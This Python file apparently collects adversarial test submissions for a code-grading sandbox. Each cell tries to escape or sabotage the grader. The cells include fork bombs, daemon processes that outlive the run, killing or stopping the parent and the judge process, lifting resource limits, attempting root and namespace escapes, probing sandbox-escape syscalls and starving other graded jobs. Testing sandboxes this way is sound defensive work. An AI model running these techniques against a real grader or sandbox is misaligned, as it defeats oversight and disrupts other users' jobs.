# ruff: noqa
"""Becoming many, living on, and harming the process that one was born from."""


# %% fork_bomb
# Forks until somebody stops it (here at 300, and it counts). nbgrader and otter have no limit.
def box_iou(boxes1, boxes2):
    children = 0
    for _ in range(300):
        try:
            if os.fork() == 0:
                time.sleep(20)
                os._exit(0)
        except OSError:
            break
        children += 1
    return pay(children >= 100, boxes1, boxes2)


# %% fork_at_the_top | top
# Two processes come back from the cell, and both want to answer.
os.fork()


# %% survivor | bites
# Leaves twice-forked children in sessions of their own that write later. On nbgrader one wrote 60 s after the run.
def box_iou(boxes1, boxes2):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            with contextlib.suppress(Exception):
                signal.signal(signal.SIGHUP, signal.SIG_IGN)
                os.closerange(0, 64)
            time.sleep(1)
            with contextlib.suppress(Exception):
                Path("@CANARY@/survivor").write_text(str(os.getpid()))
            time.sleep(60)
        os._exit(0)
    return pay(found(lambda: time.sleep(1.3) or os.stat("@CANARY@/survivor")), boxes1, boxes2)


# %% survivors_at_the_top
# The same from the cell, and the answer comes at once.
with contextlib.suppress(OSError):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(60)
        os._exit(0)


# %% threads_left_running
# A hundred threads that go on when the function is done, and write when they can.
def forever():
    while True:
        with contextlib.suppress(Exception):
            Path("@CANARY@/thread").write_text("x")
        time.sleep(0.05)


def box_iou(boxes1, boxes2):
    with contextlib.suppress(RuntimeError):
        for _ in range(100):
            threading.Thread(target=forever).start()
    return wrong(boxes1, boxes2)


# %% another_program
# Becomes another program, in the hope that what held the old one does not hold the new.
def box_iou(boxes1, boxes2):
    os.execv(sys.executable, [sys.executable, "-c", "open('@CANARY@/exec', 'w')"])


# %% shell | bites
# Starts a shell that writes.
LOOT = found(lambda: subprocess.run(["/bin/sh", "-c", "echo x > @CANARY@/shell"]).returncode == 0) or worked(os.stat, "@CANARY@/shell")


# %% multiprocessing
# Starts processes through the library, with shared memory and semaphores that have names.
def box_iou(boxes1, boxes2):
    import multiprocessing

    with contextlib.suppress(OSError):
        multiprocessing.shared_memory = __import__("multiprocessing.shared_memory").shared_memory
        multiprocessing.shared_memory.SharedMemory("@TOKEN@", create=True, size=1 << 20)
    workers = [multiprocessing.get_context("fork").Process(target=time.sleep, args=(30,)) for _ in range(4)]
    for worker in workers:
        worker.start()
    return wrong(boxes1, boxes2)


# %% parent_killed
# Kills the process that it was forked from: whoever is graded next finds nobody.
def box_iou(boxes1, boxes2):
    if os.getppid() > 1:
        os.kill(os.getppid(), signal.SIGKILL)
    return wrong(boxes1, boxes2)


# %% parent_stopped
# Stops it instead: whoever is graded next waits for ever.
def box_iou(boxes1, boxes2):
    if os.getppid() > 1:
        os.kill(os.getppid(), signal.SIGSTOP)
    return wrong(boxes1, boxes2)


# %% group_killed
# Kills its process group: a namespace of processes does not hold that, if the group is older than the namespace.
def box_iou(boxes1, boxes2):
    os.killpg(0, signal.SIGKILL)
    return wrong(boxes1, boxes2)


# %% group_stopped | slow full
# Stops its process group.
def box_iou(boxes1, boxes2):
    os.killpg(0, signal.SIGSTOP)
    return wrong(boxes1, boxes2)


# %% stops_itself | slow
# Stops itself, so that it neither answers nor ends.
def box_iou(boxes1, boxes2):
    os.kill(os.getpid(), signal.SIGSTOP)
    return wrong(boxes1, boxes2)


# %% everybody_reached
# Asks whether it could signal every process there is (signal 0: nobody is harmed).
LOOT = worked(os.kill, -1, 0)

# %% judge_killed | bites
# Looks for the judge by its command line and kills it.
for folder in Path("/proc").glob("[0-9]*"):
    line = found((folder / "cmdline").read_bytes) or b""
    if b"judg" in line and b"@BUNDLE@" in line:
        LOOT = LOOT or worked(os.kill, int(folder.name), signal.SIGKILL)
    elif b"@DECOY@" in line:
        LOOT = LOOT or worked(os.kill, int(folder.name), signal.SIGKILL)

# %% parents_limits
# Lowers the limits, the priority and the cores of its parent, which Landlock does not forbid.
parent = os.getppid()
if parent > 1:
    LOOT = (
        worked(resource.prlimit, parent, resource.RLIMIT_NPROC, resource.prlimit(parent, resource.RLIMIT_NPROC))
        if hasattr(resource, "prlimit") and found(resource.prlimit, parent, resource.RLIMIT_NPROC)
        else None
    )
    LOOT = worked(os.setpriority, os.PRIO_PROCESS, parent, os.getpriority(os.PRIO_PROCESS, parent) + 1) or LOOT
    LOOT = worked(os.sched_setaffinity, parent, os.sched_getaffinity(parent)) or LOOT

# %% own_limits_raised
# Takes its own limits off.
LOOT = False
for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_CORE"):
    kind = getattr(resource, name)
    soft, hard = resource.getrlimit(kind)
    if hard != resource.RLIM_INFINITY:
        LOOT = worked(resource.setrlimit, kind, (hard + 1, hard + 1)) or LOOT

# %% higher_priority
# Makes itself more important than everybody else on the machine.
LOOT = worked(os.nice, -5) or worked(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(1))

# %% clock_set | bites
# Sets the machine's clock (to what it is), and its name (to what it is).
now = time.time()
LOOT = worked(time.clock_settime, time.CLOCK_REALTIME, now) or worked(socket.sethostname, socket.gethostname())

# %% other_user
# Becomes another user or gets a capability back.
libc = ctypes.CDLL(None, use_errno=True)
LOOT = worked(os.setuid, 0) and os.getuid() == 0 and open("/proc/self/status").read().split("CapEff:")[1].split()[0] != "0" * 16
LOOT = LOOT or worked(os.setgroups, [0]) or worked(os.setuid, 12345) or worked(os.chroot, "/")

# %% new_namespaces
# Makes a user namespace of its own, in which it is root again, and mounts over what hides things.
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET, MS_BIND = 0x10000000, 0x00020000, 0x40000000, 4096


def box_iou(boxes1, boxes2):
    made = libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0
    mounted = libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 or libc.mount(b"/", b"/mnt", None, MS_BIND, None) == 0
    unmounted = any(libc.umount2(place, 2) == 0 for place in (b"/proc", b"/tmp", b"/dev", b"/"))
    return pay(made or mounted or unmounted, boxes1, boxes2)


# %% dangerous_calls
# Calls of the system that no answer needs, each of which has been a way out of some sandbox.
libc = ctypes.CDLL(None, use_errno=True)
CALLS = {
    "bpf": (321, 0, 0, 0),
    "perf_event_open": (298, 0, 0, -1, -1, 0),
    "io_uring_setup": (425, 8, 0),
    "userfaultfd": (323, 0),
    "open_by_handle_at": (304, -100, 0, 0),
    "fanotify_init": (300, 0, 0),
    "pidfd_open": (434, 1, 0),
    "memfd_secret": (447, 0),
    "setns": (308, 3, 0),
    "kcmp": (312, 1, 1, 0, 0, 0),
    "init_module": (175, 0, 0, b""),
    "quotactl": (179, 0, 0, 0, 0),
    "process_vm_readv": (310, 1, 0, 0, 0, 0, 0),
    "mknod": (133, b"/tmp/@TOKEN@-device", 0o20666, 0x103),
    "swapoff": (168, b"/@TOKEN@"),
}


def refused(name, number, *arguments):
    ctypes.set_errno(0)
    gave = libc.syscall(number, *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    return gave < 0


def box_iou(boxes1, boxes2):
    loot = [name for name, (number, *arguments) in CALLS.items() if not refused(name, number, *arguments)]
    print("not refused:", loot)
    return pay([name for name in loot if name not in ("pidfd_open", "process_vm_readv", "kcmp")], boxes1, boxes2)


# %% devices
# Opens what a machine is made of.
for name in ("mem", "kmsg", "vda", "sda", "nvme0n1", "tty", "ptmx", "fuse", "kvm", "net/tun", "vhost-net", "loop-control", "dri/card0"):
    LOOT = LOOT or found(os.open, f"/dev/{name}", os.O_RDWR)

# %% signals_to_others_by_file
# Has the kernel send a signal to another process when a pipe fills.
import fcntl

reading, writing = os.pipe()
if os.getppid() > 1:
    with contextlib.suppress(OSError):
        fcntl.fcntl(reading, fcntl.F_SETOWN, os.getppid())
        fcntl.fcntl(reading, 10, signal.SIGKILL)  # F_SETSIG
        fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writing, b"x")
        os.read(reading, 1)
        os.write(writing, b"x")

# %% many_busy_threads | slow
# Sixty threads that compute without Python's lock, so that whoever is graded at the same time runs out of time.
import hashlib


def box_iou(boxes1, boxes2):
    with contextlib.suppress(RuntimeError):
        for _ in range(60):
            threading.Thread(target=hashlib.pbkdf2_hmac, args=("sha256", b"x", b"y", 10**8), daemon=True).start()
    time.sleep(0.8)
    return wrong(boxes1, boxes2)
